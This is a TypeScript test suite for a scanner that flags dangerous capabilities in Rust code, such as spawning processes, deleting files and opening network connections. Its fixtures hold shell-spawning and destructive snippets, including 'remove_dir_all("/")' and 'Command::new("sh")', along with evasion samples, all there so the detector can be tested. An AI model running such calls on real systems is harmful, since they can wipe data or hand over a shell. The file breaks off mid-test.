import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { scanSource } from '../../src/scan/scan-source.ts';
import { scanFiles } from '../../src/scan/scan-files.ts';
import { readCargoFacts, rustModuleCandidates, rustModuleDirs } from '../../src/scan/rust/rust-files.ts';
import { RUST_PATTERNS } from '../../src/scan/patterns/rust-capabilities.ts';
import type { ScanFinding } from '../../src/scan/types.ts';

const scan = (src: string, file = 'handler.rs', renames?: Record<string, string>): ScanFinding[] => scanSource(src, { file, ...(renames ? { rustCrateRenames: renames } : {}) }).findings;
/** Capability findings as `identifier` or `identifier:access`, in source order. */
const caps = (src: string, renames?: Record<string, string>): string[] => scan(src, 'handler.rs', renames).filter((f) => f.kind === 'capability').map((f) => (f.access !== undefined ? `${f.identifier}:${f.access}` : f.identifier!));
const ids = (src: string): string[] => scan(src).map((f) => f.id);
const fn = (body: string, uses = ''): string => `${uses}\npub fn handler(p: &str) {\n${body}\n}\n`;

test('.rs files go to the Rust scanner', () => {
  assert.equal(ids(fn('std::process::Command::new("ls").status();')), ['subprocess.rust-command']);
  assert.equal(scanSource('fn main() {}\n', { file: 'main.rs' }).findings, []);
});

test('use paths: aliases, groups, nested groups with self, globs, a leading ::, extern crate', () => {
  assert.equal(caps(fn('Cmd::new("ls"); fs::write(p, "x");', 'use std::{fs, process::Command as Cmd};')), ['std::process::Command', 'std::fs::write:write']);
  assert.equal(caps(fn('f::remove_file(p); File::create(p);', 'use std::fs::{self as f, File};')), ['std::fs::remove_file:write', 'std::fs::File::create:write']);
  assert.equal(caps(fn('read_to_string(p);', 'use std::fs::*;')), ['std::fs::read_to_string:read']);
  assert.equal(caps(fn('::std::fs::remove_dir_all(p);')), ['std::fs::remove_dir_all:write']);
  assert.equal(caps(fn('net::TcpStream::connect(p);', 'use ::std::{io::{self, Write}, net};')), ['std::net::TcpStream']);
  assert.equal(caps(fn('tp::Command::new("ls");', 'extern crate tokio as tk;\nuse tk::process as tp;')), ['tokio::process::Command']);
  // A bare name a use binds: the function, also taken as a value.
  assert.equal(caps(fn('let f = write; read(p);', 'use std::fs::{read, write};')), ['std::fs::write:write', 'std::fs::read:read']);
});

test('fully qualified paths without use, and crates used without use', () => {
  assert.equal(caps(fn('std::env::var("HOME"); tokio::fs::read(p).await; reqwest::get(p).await; tokio::net::TcpListener::bind(p).await;')),
    ['std::env::var', 'tokio::fs::read:read', 'reqwest', 'tokio::net::TcpListener']);
  assert.equal(ids(fn('std::env::var("HOME");')), ['environment.rust-env']);
});

test('decoys: comments, strings, raw strings, methods on values, struct fields and declarations are no uses', () => {
  const src = fn([
    '// std::process::Command::new("rm")',
    '/* outer /* nested */ std::fs::remove_dir_all("/") */',
    'let a = "std::fs::write(p)";',
    'let b = r#"Command::new("sh")"#;',
    'let c = br##"std::net::TcpStream"##;',
    'file.write(b"x");',
    'conn.remove_file(p);',
    'let s = S { write: true };',
    'let d = include_str!("secret.txt");',
    'let e = env!("CARGO_PKG_NAME");',
    'write!(out, "x");',
  ].join('\n'), 'use std::fs::write;');
  // The only trace of std::fs::write is the use itself (the write! macro is another namespace).
  assert.equal(caps(src), ['std::fs::write:write']);
  assert.equal(scan(src).find((f) => f.kind === 'capability')!.detail, 'imported, but no use of it is recognized in this file');
  assert.equal(caps(fn('fn write(x: u8) {}\nlet write = 1;', 'use std::fs::write as _w;')), ['std::fs::write:write']);
});

test('macros: a path inside a macro body counts; a local module of a crate\'s name does not', () => {
  assert.equal(caps(fn('tokio::spawn(async move { std::process::Command::new("sh").spawn() });\nquote! { std::fs::write(p, b) };')), ['std::process::Command', 'std::fs::write:write']);
  assert.equal(caps('mod config;\nmod redis { pub fn get() {} }\nfn f() { config::load(); redis::get(); }\n'), []);
  assert.equal(caps('fn f() { config::Config::builder(); redis::Client::open(u); }\n'), ['config:read', 'redis']);
  // Crate rows at each use that names them; a path through a use binding does not repeat the row.
  assert.equal(caps(fn('Client::new().get(p);', 'use reqwest::Client;')), ['reqwest']);
  assert.equal(caps(fn('let e = Engine::new(); e.eval::<i64>(p);', 'use rhai::{Engine, Scope};')), ['rhai', 'rhai']);
  assert.equal(caps(fn('cmd!("ls").run();', 'use duct::cmd;')), ['duct']);
});

test('OpenOptions: the chained calls decide read or write', () => {
  const f = (body: string): string[] => scan(fn(body, 'use std::fs::{File, OpenOptions};')).filter((x) => x.kind === 'capability').map((x) => `${x.access} ${x.detail}`);
  assert.equal(f('OpenOptions::new().read(true).open(p)?;'), ['read options allow no writing']);
  assert.equal(f('OpenOptions::new().append(true).create(true).open(p)?;'), ['write options append, create']);
  assert.equal(f('OpenOptions::new().read(true).write(false).open(p)?;'), ['read options allow no writing']);
  assert.equal(f('let o = OpenOptions::new(); o.open(p);'), ['write the options are not chained up to open: counted as a write']);
  assert.equal(f('File::options().truncate(true).write(true).open(p);'), ['write options truncate, write']);
  assert.equal(f('let mk = OpenOptions::new;'), ['write taken as a value: counted as a write']);
});

test('rows across families: libc, nix, pyo3, extern blocks, keyring, crypto, rmcp transports', () => {
  assert.equal(caps(fn('unsafe { libc::system(c.as_ptr()); libc::unlink(p); libc::getpid(); nix::unistd::fork(); }')), ['libc::system', 'libc::unlink:write', 'nix::unistd::fork']);
  assert.equal(ids('extern "C" { fn puts(s: *const u8) -> i32; }\nextern "C" fn exported() {}\nextern crate alloc;\n'), ['code-evaluation.rust-ffi']);
  assert.equal(caps('use pyo3::prelude::*;\nfn f(py: Python) { py.run(c"import os", None, None); py.run(code, None, None); server.run("x"); }\n'), ['pyo3::Python::run', 'pyo3::Python::run', 'pyo3::Python::run']);
  // On a receiver that is not the GIL token `py`, a run with a non-literal argument is nothing.
  assert.equal(caps('use pyo3::prelude::*;\nfn f(rt: R) { rt.run(task); self.py.run(x); }\n'), []);
  assert.equal(caps('fn f() { server.run("0.0.0.0"); }\n'), []);
  assert.equal(caps(fn('let e = keyring::Entry::new("svc", "user")?; e.get_password()?;')), ['keyring']);
  assert.equal(caps(fn('', 'use sha2::{Digest, Sha256};\nuse aws_sdk_s3::Client;')), ['sha2', 'sha2', 'aws_sdk_s3']);
  assert.equal(caps(fn('let t = TokioChildProcess::new(Command::new("uvx"))?;', 'use rmcp::transport::{TokioChildProcess, ConfigureCommandExt};\nuse tokio::process::Command;')),
    ['rmcp::transport::TokioChildProcess', 'rmcp::transport::ConfigureCommandExt', 'tokio::process::Command']);
  assert.equal(caps(fn('', 'use rmcp::transport::streamable_http_server::{StreamableHttpService, session::local::LocalSessionManager};\nuse rmcp::{ServerHandler, transport::stdio};')),
    ['rmcp::transport::streamable_http_server', 'rmcp::transport::streamable_http_server']);
});

test('a libc function named in a type position is its struct (libc::stat is both): no read; the call still counts', () => {
  // Rust keeps types and values apart: in a type `libc::stat` is `struct stat`, the function only where it is called or taken as a value.
  assert.equal(caps('fn g(s: libc::stat) -> i32 { 0 }\n'), []);
  assert.equal(caps('fn g(s: &libc::stat, t: *mut libc::stat64) {}\nstruct S { pub st: libc::stat }\ntype FileStat = libc::stat;\n'), []);
  assert.equal(caps('fn g() -> libc::stat { unsafe { std::mem::zeroed() } }\nfn h(m: HashMap<String, libc::stat>, t: (i32, libc::stat), a: [libc::stat; 2]) {}\n'), []);
  assert.equal(caps('fn g() { let st = std::mem::MaybeUninit::<libc::stat>::uninit(); let c = |s: ::libc::stat| 0; }\nimpl From<libc::stat> for X { fn from(s: libc::stat) -> X { X } }\nenum E { V { st: libc::stat } }\n'), []);
  // A use of the name only as a type is used (no "imported, but no use" note either).
  assert.equal(caps('use libc::stat as FileStat;\nfn g() { let x: FileStat = unsafe { std::mem::zeroed() }; }\n'), []);
  assert.equal(caps('use libc::stat;\nfn g(s: stat) {}\n'), []);
  // Called, taken as a value, or a struct literal's field value: the function.
  assert.equal(caps('fn g(p: *const libc::c_char) { let mut st: libc::stat = unsafe { std::mem::zeroed() }; unsafe { libc::stat(p, &mut st as *mut libc::stat) }; }\n'), ['libc::stat:read']);
  assert.equal(caps('use libc::{self, stat};\nfn g() { let mut st: stat = unsafe { std::mem::zeroed() }; unsafe { stat(p, &mut st) }; }\n'), ['libc::stat:read']);
  assert.equal(caps('fn g() { let f = libc::stat; h(Some(libc::lstat)); let s = S { f: libc::stat }; }\n').sort(), ['libc::lstat:read', 'libc::stat:read', 'libc::stat:read']);
  // A type written in upper case (a Rust type) stays what it was: its row counts wherever it is named.
  assert.equal(caps('fn g(s: std::net::TcpStream) {}\n'), caps('fn g() { let s: Option<std::net::TcpStream> = None; }\n'));
});

test('Cargo.toml: renamed dependencies and the package\'s own crate names', () => {
  const facts = readCargoFacts('[package]\nname = "my-server"\n\n[lib]\nname = "my_lib"\n\n[dependencies]\nhttp = { package = "reqwest", version = "0.12" }\nserde = "1"\n\n[dependencies.shell]\npackage = "duct"\nversion = "0.13"\n\n[target.\'cfg(unix)\'.dependencies]\nsock = { version = "1", package = "tokio-tungstenite" }\n');
  assert.equal({ ...facts.renames }, { my_server: 'crate', my_lib: 'crate', http: 'reqwest', shell: 'duct', sock: 'tokio_tungstenite' });
  assert.equal(caps(fn('http::get(p); my_server::tools::run(); reqwest::get(p);'), facts.renames), ['reqwest', 'reqwest']);
  // The package's own name: a crate of the same name is its own code (scanning reqwest's repository).
  assert.equal(caps(fn('reqwest::get(p);'), { reqwest: 'crate' }), []);
});

test('module paths: the files a mod or crate:: path may be in', () => {
  assert.equal(rustModuleDirs('/s/src/main.rs'), ['/s/src']);
  assert.equal(rustModuleDirs('/s/src/tools.rs'), ['/s/src/tools', '/s/src']);
  assert.equal(rustModuleCandidates(['/s/src'], ['util', 'run']), ['/s/src/util/run.rs', '/s/src/util/run/mod.rs', '/s/src/util.rs', '/s/src/util/mod.rs']);
  const imports = scanSource('#[path = "impl/x.rs"]\npub mod x;\nmod y;\nmod z { }\nuse crate::util::run;\nfn f() { super::helper(); self::y::go(); Self::new(); }\n', { file: 'src/lib.rs' }).imports;
  assert.equal(imports.map((i) => `${i.kind}:${i.specifier}`), ['relative:mod x@impl/x.rs', 'relative:mod y', 'relative:crate::util::run', 'relative:super::helper', 'relative:self::y::go']);
});

test('not analyzed: an unclosed raw string or comment, unpaired brackets; findings before it stay', () => {
  const r = scan('fn f() {\n  std::fs::read(p);\n  let s = r#"open\n}\n');
  assert.equal(r.map((f) => f.id), ['filesystem.rust-fs-read', 'scan.not-analyzed']);
  assert.match(r[1]!.detail!, /^unclosed-string/);
  assert.equal(ids('fn f() { /* never closed\n'), ['scan.not-analyzed']);
  assert.equal(ids('fn f() { g(]; }'), ['scan.not-analyzed']);
});

test('evasion: hidden characters, escape density and high-entropy literals as in the other scanners', () => {
  assert.ok(ids('fn f() { let a\u200b = 1; }\n').includes('evasion.invisible-character'));
  assert.ok(ids(`fn f() { let s = "${'\\x41'.repeat(40)}"; }\n`).includes('evasion.escape-density'));
});

test('every Rust row id is <family>.rust-<name> and unique', () => {
  const seen = new Set<string>();
  for (const row of RUST_PATTERNS) {
    assert.match(row.id, /^(filesystem|network|subprocess|crypto|code-evaluation|environment)\.rust-[a-z0-9-]+$/);
    assert.not.ok(seen.has(row.id), row.id);
    seen.add(row.id);
  }
});

test('test-only code does not count: #[cfg(test)] modules and items, #[test] functions, #![cfg(test)] files; other #[cfg] still count', () => {
  const tests = '#[cfg(test)]\nmod tests {\n    use super::*;\n    use std::process::Command;\n    #[test]\n    fn t() { Command::new("sh").status().unwrap(); std::fs::remove_dir_all("/tmp/x").unwrap(); }\n}\n';
  assert.equal(caps(fn('std::fs::read(p);') + tests), ['std::fs::read:read']);
  assert.equal(caps(fn('std::fs::read(p);') + '#[test]\nfn t() { std::net::TcpStream::connect("x"); }\n#[tokio::test]\nasync fn u() { reqwest::get("x").await; }\n#[cfg(all(test, unix))]\nfn helper() { std::env::var("X"); }\n'), ['std::fs::read:read']);
  assert.equal(caps('#![cfg(test)]\nuse std::process::Command;\nfn t() { Command::new("sh"); }\n'), []);
  // A test module in its own file is not followed.
  assert.equal(scanSource('#[cfg(test)]\nmod tests;\nmod tools;\n', { file: 'src/lib.rs' }).imports.map((i) => i.specifier), ['mod tools']);
  // cfg(not(test)), cfg(any(test, …)), cfg(unix), a feature and cfg_attr(test, …) are code that ships: they count.
  assert.equal(caps('#[cfg(not(test))]\nfn a() { std::fs::write(p, b); }\n#[cfg(any(test, feature = "x"))]\nfn b() { std::env::var("X"); }\n#[cfg(unix)]\nfn c() { std::process::Command::new("sh"); }\n#[cfg_attr(test, allow(dead_code))]\nfn d() { std::fs::read(p); }\n'),
    ['std::fs::write:write', 'std::env::var', 'std::process::Command', 'std::fs::read:read']);
});

test('a use inside a function binds its name in that block only', () => {
  // `Command` in g is the file's own type: the use inside f does not reach it.
  assert.equal(caps('fn f() {\n    use std::process::Command;\n    Command::new("sh");\n}\nfn g() { Command::new("x"); }\nstruct Command;\n'), ['std::process::Command']);
  assert.equal(caps('fn f() {\n    use std::fs::*;\n    read(p);\n}\nfn g() { write(p, b); }\n'), ['std::fs::read:read']);
  assert.equal(caps('mod a {\n    use std::fs::write;\n    pub fn f() { write(p, b); }\n}\nmod b {\n    pub fn g() { write(p, b); }\n    fn write(p: &str, b: &str) {}\n}\n'), ['std::fs::write:write']);
  // A use at file level, or in an enclosing block, still reaches nested blocks; a use later in the block counts before it (Rust's rule).
  assert.equal(caps('use std::fs;\nfn f() { { fs::read(p); } }\nfn g() {\n    if x { Command::new("sh"); }\n    use std::process::Command;\n}\n'), ['std::fs::read:read', 'std::process::Command']);
  // The innermost use of a name wins over an outer one.
  assert.equal(caps('use std::process::Command;\nfn f() {\n    use mylib::Command;\n    Command::new("x");\n}\nfn g() { Command::new("sh"); }\n'), ['std::process::Command']);
});

test('a Rust file reached through a path counts only the items reached, and what they reach in turn', async () => {
  const files = new Map<string, string>([
    ['/c/Cargo.toml', '[package]\nname = "notes"\n'],
    ['/c/src/store.rs', [
      'use std::path::PathBuf;',
      'use reqwest::Client;',
      'pub fn dir() -> PathBuf { base() }',
      'fn base() -> PathBuf { PathBuf::from(std::env::var("HOME").unwrap()) }',
      'pub fn wipe() { std::fs::remove_dir_all(dir()).unwrap(); }',
      'pub fn fetch() { Client::new(); }',
      'pub struct Store;',
      'impl Store { pub fn save(&self) { std::fs::write("x", "y").unwrap(); } }',
      'pub struct Other;',
      'impl Other { pub fn spawn_it(&self) { std::process::Command::new("sh"); } }',
    ].join('\n')],
    ['/c/src/util.rs', 'pub use crate::store::wipe as wipe_all;\npub fn run() { std::process::Command::new("ls"); }\n'],
    ['/c/src/glob.rs', 'use crate::store::*;\npub fn g() { dir(); }\n'],
    ['/c/src/tools/a.rs', 'pub fn run() { crate::store::dir(); }\n'],
    ['/c/src/tools/b.rs', 'use crate::store;\npub fn run(s: &store::Store) { store::fetch(); s.save(); }\n'],
    ['/c/src/tools/c.rs', 'pub fn run() { crate::util::wipe_all(); }\n'],
    ['/c/src/tools/d.rs', 'pub fn run() { crate::glob::g(); }\n'],
  ]);
  const raw = async (entry: string): Promise<string[]> => {
    const r = await scanFiles([entry], { readSource: (p) => files.get(p) });
    return [...new Set(r.findings.filter((f) => f.kind === 'capability').map((f) => f.identifier!))].sort();
  };
  // dir() reaches base() (same file, by name) and its env read; wipe's remove_dir_all, fetch's reqwest and the impls stay out.
  assert.equal(await raw('/c/src/tools/a.rs'), ['std::env::var']);
  // Through `use crate::store;`: fetch (reqwest at its use counts for the item that uses the name), and s.save(): a method on a
  // value whose type the scan does not follow reaches every impl of the files read that defines `save` (Store's write); Other's spawn stays out.
  assert.equal(await raw('/c/src/tools/b.rs'), ['reqwest', 'std::fs::write']);
  // A re-export names no item of util.rs: util.rs counts whole, and says why; a glob import of store reaches the items
  // the importing item names (dir, then base's env read: wipe's remove_dir_all and Other's spawn stay out, scanner12).
  const c = await scanFiles(['/c/src/tools/c.rs'], { readSource: (p) => files.get(p) });
  const spawn = c.findings.find((f) => f.identifier === 'std::process::Command' && f.file === '/c/src/util.rs');
  assert.match(spawn?.detail ?? '', /counted for the whole file: wipe_all is declared by no item of it/);
  assert.equal(await raw('/c/src/tools/d.rs'), ['std::env::var']);
});

test('a module of the crate that re-exports a std module or item (pub use std::process::*) hands it on: crate::process::Command::new counts', async () => {
  const files = new Map<string, string>([
    ['/r/Cargo.toml', '[package]\nname = "r"\n'],
    ['/r/src/main.rs', 'mod process;\nmod net;\nmod util;\nfn main() {\n    crate::process::Command::new("ls").status().unwrap();\n    net::Tcp::connect("h:1").unwrap();\n    util::fsx::remove_file("x").unwrap();\n}\n'],
    ['/r/src/process.rs', 'pub use std::process::*;\n'],
    ['/r/src/net.rs', 'pub use std::net::TcpStream as Tcp;\n'],
    ['/r/src/util/mod.rs', 'pub(crate) use std::fs as fsx;\n'],
  ]);
  const r = await scanFiles(['/r/src/main.rs'], { readSource: (p) => files.get(p) });
  const found = r.findings.filter((f) => f.kind === 'capability').map((f) => `${f.file}:${f.line} ${f.family} ${f.identifier}`).sort();
  assert.equal(found, ['/r/src/main.rs:5 subprocess std::process::Command', '/r/src/main.rs:6 network std::net::TcpStream', '/r/src/main.rs:7 filesystem std::fs::remove_file', '/r/src/net.rs:1 network std::net::TcpStream', '/r/src/process.rs:1 subprocess std::process', '/r/src/util/mod.rs:1 filesystem std::fs']);
  // The paths through them are the std paths, where they are written (with a direction).
  const used = r.findings.filter((f) => f.file === '/r/src/main.rs').map((f) => `${f.line} ${f.identifier}${f.access === undefined ? '' : `:${f.access}`}`);
  assert.equal(used, ['5 std::process::Command', '6 std::net::TcpStream', '7 std::fs::remove_file:write']);
  // A private use of the crate root is seen by its child modules: crate::process there is std::process.
  const root = new Map<string, string>([
    ['/q/Cargo.toml', '[package]\nname = "q"\n'],
    ['/q/src/main.rs', 'use std::process;\nuse std::fs::*;\nmod tools;\nfn main() { tools::run(); }\n'],
    ['/q/src/tools.rs', 'pub fn run() {\n    let _ = crate::process::Command::new("sh").status();\n    crate::write("x", "y").unwrap();\n    crate::helper();\n}\n'],
  ]);
  const q = await scanFiles(['/q/src/main.rs'], { readSource: (p) => root.get(p) });
  assert.equal(q.findings.filter((f) => f.kind === 'capability').map((f) => `${f.file}:${f.line} ${f.identifier}${f.access === undefined ? '' : `:${f.access}`}`).sort(), ['/q/src/tools.rs:2 std::process::Command', '/q/src/tools.rs:3 std::fs::write:write']);
  // Handed on, not used here: no read or write direction.
  assert.is(r.findings.find((f) => f.identifier === 'std::fs')?.access, undefined);
  // A private use of a module is this file's own: its uses count where they are, nothing at the use.
  assert.equal(caps('use std::process::*;\nuse std::fs as fsx;\npub fn f() {}\n'), []);
  // A whole crate re-exported for the crate's users (nix's `pub use libc;`) is not this crate's use.
  assert.equal(caps('pub use libc;\npub use tokio as rt;\npub fn f() {}\n'), []);
});

test('a path followed through a chain of local re-exports (a binds b\'s name, which binds std) is the std path, bounded and cycle-safe', async () => {
  const run = async (files: Record<string, string>): Promise<string[]> => {
    const r = await scanFiles(['/r/src/main.rs'], { readSource: (p) => files[p] });
    return r.findings.filter((f) => f.kind === 'capability' && f.file === '/r/src/main.rs').map((f) => `${f.line} ${f.identifier}${f.access === undefined ? '' : `:${f.access}`}`);
  };
  const cargo = { '/r/Cargo.toml': '[package]\nname = "r"\n' };
  // Named, renamed, through a local glob, three modules deep (super:: and crate:: paths).
  assert.equal(await run({ ...cargo, '/r/src/main.rs': 'mod a;\nmod b;\nfn main() {\n    crate::a::process::Command::new("ls").status().unwrap();\n}\n', '/r/src/a.rs': 'pub use crate::b::process;\n', '/r/src/b.rs': 'pub use std::process;\n' }), ['4 std::process::Command']);
  assert.equal(await run({ ...cargo, '/r/src/main.rs': 'mod a;\nmod b;\nfn main() {\n    a::Cmd::new("ls").status().unwrap();\n}\n', '/r/src/a.rs': 'pub use crate::b::Runner as Cmd;\n', '/r/src/b.rs': 'pub use std::process::Command as Runner;\n' }), ['4 std::process::Command']);
  assert.equal(await run({ ...cargo, '/r/src/main.rs': 'mod a;\nmod b;\nfn main() {\n    a::fsx::remove_file("x").unwrap();\n}\n', '/r/src/a.rs': 'pub use crate::b::*;\n', '/r/src/b.rs': 'pub use std::fs as fsx;\n' }), ['4 std::fs::remove_file:write']);
  assert.equal(await run({ ...cargo, '/r/src/main.rs': 'mod a;\nmod b;\nmod c;\nfn main() {\n    a::net::TcpStream::connect("h:1").unwrap();\n}\n', '/r/src/a.rs': 'pub use super::b::net;\n', '/r/src/b.rs': 'pub use crate::c::net;\n', '/r/src/c.rs': 'pub use std::net;\n' }), ['5 std::net::TcpStream']);
  // A cycle of re-exports, and a chain longer than the bound, end without a finding (and without hanging).
  assert.equal(await run({ ...cargo, '/r/src/main.rs': 'mod a;\nmod b;\nfn main() {\n    a::x::go();\n}\n', '/r/src/a.rs': 'pub use crate::b::x;\n', '/r/src/b.rs': 'pub use crate::a::x;\n' }), []);
  const long: Record<string, string> = { ...cargo, '/r/src/main.rs': `${Array.from({ length: 12 }, (_, k) => `mod m${k};`).join('\n')}\nfn main() {\n    m0::process::Command::new("ls");\n}\n`, '/r/src/m11.rs': 'pub use std::process;\n' };
  for (let k = 0; k < 11; k++) long[`/r/src/m${k}.rs`] = `pub use crate::m${k + 1}::process;\n`;
  assert.equal(await run(long), []);
  long['/r/src/m5.rs'] = 'pub use std::process;\n';
  assert.equal(await run(long), ['14 std::process::Command']);
});

test('a glob import of a local module reaches only the items the importing code names (scanner12)', async () => {
  const files = new Map<string, string>([
    ['/c/Cargo.toml', '[package]\nname = "ops"\n'],
    ['/c/src/ops.rs', [
      'use std::process::Command;',
      'pub fn run_git(args: &[&str]) { Command::new("git").args(args).status().unwrap(); }',
      'pub fn wipe(d: &str) { std::fs::remove_dir_all(d).unwrap(); }',
      'pub struct Fetcher;',
      'impl Fetcher { pub fn new() -> Self { Fetcher } pub fn get(&self) { reqwest::blocking::get("http://h").unwrap(); } }',
      'pub struct Env;',
      'impl Env { pub fn read() -> String { std::env::var("X").unwrap() } }',
    ].join('\n')],
    // A module that re-exports another with a glob, and one by name.
    ['/c/src/tools/mod.rs', 'pub mod shell;\npub use self::shell::*;\npub use crate::ops::wipe as clean;\n'],
    ['/c/src/tools/shell.rs', 'pub fn sh(c: &str) { std::process::Command::new("sh").arg(c).status().unwrap(); }\npub fn rm(p: &str) { std::fs::remove_file(p).unwrap(); }\n'],
    // A name the glob's module does not declare (a macro makes it): its file counts whole, as before.
    ['/c/src/made.rs', 'macro_rules! mk { ($n:ident) => { pub fn $n() { std::fs::write("x", "y").unwrap(); } } }\nmk!(made_fn);\npub fn other() { std::env::var("Y").unwrap(); }\n'],
    ['/c/src/a.rs', 'use crate::ops::*;\npub fn a() { run_git(&["log"]); }\n'],
    ['/c/src/b.rs', 'use crate::ops::*;\npub fn b() { let f = Fetcher::new(); f.get(); let s = Some(1); let v: Vec<u8> = Vec::new(); drop((s, v)); let run = |x: u8| x; run(1); serde_json::to_string(&1).unwrap(); }\n'],
    ['/c/src/c.rs', 'use crate::tools::*;\npub fn c() { sh("ls"); }\n'],
    ['/c/src/d.rs', 'use crate::made::*;\npub fn d() { made_fn(); }\n'],
    ['/c/src/e.rs', 'pub fn e() {\n    use crate::ops::*;\n    wipe("/tmp");\n}\n'],
    // Beside a crate's glob (scanner10 held-out r20): a type name no local module declares is the crate's; a function name still counts the file whole.
    ['/c/src/f.rs', 'use crate::ops::*;\nuse rmcp::model::*;\npub fn f() { run_git(&[]); CallToolResult::success(vec![Content::text("x")]); }\n'],
    ['/c/src/g.rs', 'use crate::made::*;\nuse rmcp::model::*;\npub fn g() { made_fn(); }\n'],
  ]);
  const raw = async (entry: string): Promise<string[]> => {
    const r = await scanFiles([entry], { readSource: (p) => files.get(p) });
    return [...new Set(r.findings.filter((f) => f.kind === 'capability').map((f) => `${f.file}:${f.identifier!}`))].sort();
  };
  assert.equal(await raw('/c/src/a.rs'), ['/c/src/ops.rs:std::process::Command']);
  // A type through the glob and its method; prelude names, a closure and a crate path name nothing of ops.rs.
  assert.equal(await raw('/c/src/b.rs'), ['/c/src/ops.rs:reqwest']);
  assert.equal(await raw('/c/src/c.rs'), ['/c/src/tools/shell.rs:std::process::Command']);
  assert.equal(await raw('/c/src/d.rs'), ['/c/src/made.rs:std::env::var', '/c/src/made.rs:std::fs::write']);
  assert.equal(await raw('/c/src/e.rs'), ['/c/src/ops.rs:std::fs::remove_dir_all']);
  assert.equal(await raw('/c/src/f.rs'), ['/c/src/ops.rs:std::process::Command']);
  assert.equal(await raw('/c/src/g.rs'), ['/c/src/made.rs:std::env::var', '/c/src/made.rs:std::fs::write']);
});

test('a use only test code uses is not reported at the use; one path bound in several cfg arms is used through either', () => {
  assert.equal(caps('use std::process::Command;\nfn f() {}\n#[cfg(test)]\nmod tests {\n    use super::*;\n    #[test]\n    fn t() { Command::new("sh"); }\n}\n'), []);
  assert.equal(caps('#[cfg(unix)]\nuse std::fs::remove_file as rm;\n#[cfg(windows)]\nuse std::fs::remove_file as rm;\nfn f() { rm(p); }\n'), ['std::fs::remove_file:write']);
  // A use the file's own code never uses still counts at the use.
  assert.equal(caps('use std::process::Command;\nfn f() {}\n'), ['std::process::Command']);
});

test('reach by item narrows by inline module and by the receiver\'s type when the code says them; unresolvable stays conservative (scanner10)', async () => {
  const files = new Map<string, string>([
    ['/c/Cargo.toml', '[package]\nname = "jobs"\n'],
    ['/c/src/util.rs', [
      'pub fn run(p: &str) { std::fs::read_to_string(p).unwrap(); }',
      'pub mod safe { pub fn run(p: &str) { std::env::var(p).unwrap(); } }',
      'pub mod danger {',
      '    pub fn run(c: &str) { std::process::Command::new(c); helper(); }',
      '    fn helper() { std::fs::remove_file("x").unwrap(); }',
      '    pub mod deep { pub fn go() { super::helper(); } }',
      '}',
    ].join('\n')],
    ['/c/src/jobs.rs', [
      'pub struct Reader;',
      'impl Reader { pub fn new() -> Self { Reader } pub fn run(&self) { std::fs::read("x").unwrap(); } pub fn all(&self) { self.run(); } }',
      'pub struct Shell;',
      'impl Shell { pub fn run(&self) { std::process::Command::new("sh"); } }',
      'pub trait Runner { fn run(&self); }',
    ].join('\n')],
    ['/c/src/tools/a.rs', 'use crate::util::safe;\npub fn t(p: &str) { safe::run(p); }\n'],
    ['/c/src/tools/b.rs', 'pub fn t(c: &str) { crate::util::danger::run(c); }\n'],
    ['/c/src/tools/c.rs', 'pub fn t(p: &str) { crate::util::run(p); }\n'],
    ['/c/src/tools/d.rs', 'use crate::jobs::Reader;\npub fn t() { let r = Reader::new(); r.run(); }\n'],
    ['/c/src/tools/e.rs', 'use crate::jobs::Reader;\npub fn t(r: &Reader) { r.run(); }\npub fn u() { let s: crate::jobs::Reader = make(); s.all(); Reader::new().run(); }\n'],
    ['/c/src/tools/f.rs', 'use crate::jobs::Runner;\npub fn t(j: &dyn Runner) { j.run(); }\n'],
    ['/c/src/tools/g.rs', 'use crate::jobs::Reader;\npub fn t(r: &Reader) { let r = pick(); r.run(); }\n'],
    ['/c/src/tools/h.rs', 'pub fn t() { crate::util::danger::deep::go(); }\n'],
  ]);
  const raw = async (entry: string): Promise<string[]> => {
    const r = await scanFiles([entry], { readSource: (p) => files.get(p) });
    return [...new Set(r.findings.filter((f) => f.kind === 'capability').map((f) => f.identifier!))].sort();
  };
  // The same name in two inline modules and at the top level are three items.
  assert.equal(await raw('/c/src/tools/a.rs'), ['std::env::var']);
  assert.equal(await raw('/c/src/tools/b.rs'), ['std::fs::remove_file', 'std::process::Command']);
  assert.equal(await raw('/c/src/tools/c.rs'), ['std::fs::read_to_string']);
  assert.equal(await raw('/c/src/tools/h.rs'), ['std::fs::remove_file']);
  // A receiver typed by let T::new(), a parameter &T, let x: T, self in impl T, T::new().m(): only T's run.
  assert.equal(await raw('/c/src/tools/d.rs'), ['std::fs::read']);
  assert.equal(await raw('/c/src/tools/e.rs'), ['std::fs::read']);
  // A trait object, or a binding whose type is not written, reaches every run.
  assert.equal(await raw('/c/src/tools/f.rs'), ['std::fs::read', 'std::process::Command']);
  assert.equal(await raw('/c/src/tools/g.rs'), ['std::fs::read', 'std::process::Command']);
});

test('a let narrows a receiver only in its block and after its statement; a pattern, closure or arm binding of the name hides it (scanner11)', async () => {
  const jobs = [
    'pub struct Reader;',
    'impl Reader { pub fn new() -> Self { Reader } pub fn from(_x: ()) -> Self { Reader } pub fn run(&self) { std::fs::read("x").unwrap(); } }',
    'pub struct Shell;',
    'impl Shell { pub fn run(&self) { std::process::Command::new("sh"); } }',
  ].join('\n');
  // Each body: the outer `r` ends untyped (or is hidden by an untyped binding) where it runs.
  const conservative: Record<string, string> = {
    block: 'let r = pick(); { let r = Reader::new(); } r.run();',
    shadow: 'let r = Reader::new(); let r = pick(); r.run();',
    loopBody: 'let r = pick(); loop { let r = Reader::new(); if done() { break; } } r.run();',
    forBody: 'let r = pick(); for _ in 0..2 { let r: Reader = make(); } r.run();',
    ifBody: 'let r = pick(); if ok() { let r = Reader::new(); } else { let r = Reader::new(); } r.run();',
    rightSide: 'let r = pick(); let r = Reader::from(r.run());',
    closure: 'let r = Reader::new(); pick().iter().for_each(|r| r.run());',
    closureBlock: 'let r = Reader::new(); pick().iter().for_each(move |(_, r)| { r.run(); });',
    matchArm: 'let r = Reader::new(); match pick() { Some(r) => r.run(), None => {} }',
    matchGuard: 'let r = Reader::new(); match pick() { Some(r) if r.run() => {}, _ => {} }',
    ifLet: 'let r = Reader::new(); if let Some(r) = pick() { r.run(); }',
    whileLet: 'let r = Reader::new(); while let Some(r) = pick() { r.run(); }',
    forIn: 'let r = Reader::new(); for r in pick() { r.run(); }',
    tuple: 'let r = Reader::new(); let (_a, r) = pick(); r.run();',
    letElse: 'let r = Reader::new(); let Some(r) = pick() else { return; }; r.run();',
  };
  // Each body: the `r` that runs is a Reader.
  const narrowed: Record<string, string> = {
    inner: 'let r = Reader::new(); { r.run(); }',
